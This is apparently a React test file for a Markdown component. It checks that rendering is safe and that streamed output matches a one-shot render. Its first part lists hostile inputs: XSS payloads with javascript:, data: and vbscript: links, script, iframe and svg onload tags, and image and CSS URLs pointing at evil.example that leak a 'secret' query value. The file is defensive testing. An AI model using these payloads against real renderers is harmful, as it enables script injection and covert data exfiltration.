import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { Markdown, MarkdownBlock } from './markdown';

afterEach(cleanup);

const hostile = [
  '![x](https://evil.example/p.png?leak=secret)',
  '<img src="https://evil.example/p.png" onerror="alert(1)">',
  '[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:x)',
  '<script>alert(1)</script>',
  '<iframe src="https://evil.example"></iframe><svg onload="alert(1)">',
  '[ref][r]\n\n[r]: javascript:alert(1)',
  '<a href="javascript:alert(1)">a</a>',
  '![i](javascript:alert(1))',
  '![d](data:image/svg+xml;base64,PHN2Zy8+) ![p](//evil.example/p.png) ![b](blob:x)',
  '![r][pic]\n\n[pic]: https://evil.example/p.png?leak=secret',
  '<video poster="https://evil.example/p.png" src="x"></video><link rel="prefetch" href="https://evil.example">',
  '<style>@import url(https://evil.example)</style><div style="background:url(https://evil.example)">x</div>',
  '<javascript:alert(1)>',
].join('\n\n');

describe('Markdown safety', () => {
  it.each([
    ['whole', hostile, false],
    ['while it grows', hostile, true],
    ['cut in the middle', hostile.slice(0, 40), true],
  ])('%s: loads and runs nothing', (_, text, open) => {
    const { container } = render(<Markdown text={text} open={open} />);
    expect(container.querySelectorAll('img, script, iframe, svg:not(.lucide), object, embed, link, style, form, video, audio, source, [style*=url], [srcset], [poster]')).toHaveLength(0);
    for (const element of container.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on/);
        if (name === 'href' || name === 'src') expect(value).toMatch(/^(https?|mailto):/);
      }
    }
  });

  it('makes an image a link that says what it is, and opens links without a referrer', () => {
    const { getByRole } = render(<Markdown text="![chart](https://example.org/c.png)" open={false} />);
    const link = getByRole('link', { name: 'image: chart' });
    expect(link.getAttribute('rel')).toContain('noreferrer');
    expect(link.getAttribute('href')).toBe('https://example.org/c.png');
  });
});

const texts = {
  prose: 'One **bold** para.\nstill one\n\nTwo with `code`.\n\n---\n\n# Head\n\nThree.',
  lists: '- a\n- b\n\n  more of b\n\n- c\n\nafter\n\n1. one\n2. two\n   - deep\n\n3. three\n\nEnd.',
  task: '- [x] done\n- [ ] open\n\nEnd.',
  mixed: 'Intro\n\n- a\n- b\n\n1. x\n2. y\n\n* star\n\nEnd',
  fences: 'Look:\n\n```java\nint a;\n\nint b;\n```\n\nand\n\n~~~\n```\n\n~~~\n\nEnd.',
  table: 'Before\n\n| a | b |\n|--|--:|\n| 1 | 2 |\n\nAfter\n\n> quote\n>\n> more\n\nEnd.',
  indented: 'A\n\n    code\n\n    more\n\nB',
  references: 'See [the log][1] and a note[^n].\n\nMore.\n\n[1]: https://example.org/log\n\n[^n]: A note.\n\nEnd.',
  html: 'A\n\n<!-- x\n\ny -->\n\nB',
  setext: 'Title\n=====\n\nText\n\nOther\n-----\n\nText',
};

const normalized = (container: HTMLElement) => container.innerHTML.replaceAll(/<\/?div>/g, '').replaceAll(/\s*\n\s*/g, '\n').replaceAll(/>\n</g, '><');

describe('Markdown while it grows', () => {
  it.each(Object.entries(texts))('ends as the one-shot render: %s', (_, text) => {
    const whole = render(<MarkdownBlock text={text} />);
    const expected = normalized(whole.container);
    cleanup();
    for (const step of [1, 4, 17]) {
      const view = render(<Markdown text="" open />);
      for (let end = step; end < text.length; end += step) view.rerender(<Markdown text={text.slice(0, end)} open />);
      view.rerender(<Markdown text={text} open={false} />);
      expect(normalized(view.container.querySelector('.prose') as HTMLElement)).toBe(expected);
      cleanup();
    }
  });
});
